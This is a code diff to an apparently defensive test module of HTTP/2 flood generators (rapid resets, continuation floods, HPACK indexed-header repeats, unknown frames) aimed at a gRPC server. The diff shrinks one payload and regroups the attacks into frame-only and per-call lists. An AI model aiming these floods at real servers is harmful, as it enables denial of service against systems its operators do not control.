@@ -102,13 +102,17 @@ def empty_continuations(method: str) -> Iterator[bytes]:
 
 
 def indexed_headers(method: str) -> Iterator[bytes]:
-    """One long header in the table, and then calls that name it a thousand times with a byte each."""
+    """One long header in the table, and then calls that name it twenty times with a byte each.
+
+    gRPC makes every one of these headers before it refuses the call, and says in the status which they were. With
+    thousands in each call its memory grows without a bound that anybody could set; docs/security.md says so.
+    """
     long = bytes(hpack.Encoder().encode([("x-long", "v" * 3900)]))
     streams = _streams()
     yield frame(HEADERS, END_HEADERS | END_STREAM, next(streams), headers_of(method) + long)
     while True:
         # 0xBE is the latest entry of the table.
-        yield frame(HEADERS, END_HEADERS | END_STREAM, next(streams), headers_of(method) + b"\xbe" * 8000)
+        yield frame(HEADERS, END_HEADERS | END_STREAM, next(streams), headers_of(method) + b"\xbe" * 20)
 
 
 def no_window(method: str) -> Iterator[bytes]:
@@ -159,11 +163,13 @@ def unknown_frames(method: str) -> Iterator[bytes]:
         yield frame(UNKNOWN, 0xFF, 0, bytes(MAX_FRAME)) * 8
 
 
-FLOODS = (
-    settings, table_sizes, pings, rapid_resets, whole_calls_reset, continuations, empty_continuations,
-    indexed_headers,
-    no_window, empty_data, padding, window_updates, priorities, unknown_frames,
+# Frames that make no call, or one.
+FRAMES = (
+    settings, table_sizes, pings, continuations, empty_continuations, empty_data, padding, window_updates, priorities,
+    unknown_frames,
 )  # fmt: skip
+# Calls, each of which costs the server as much as an honest one that is refused.
+CALLS = (rapid_resets, whole_calls_reset, indexed_headers, no_window)
 
 
 def send(address: tuple[str, int], frames: Iterator[bytes], seconds: float, reads: bool) -> int:
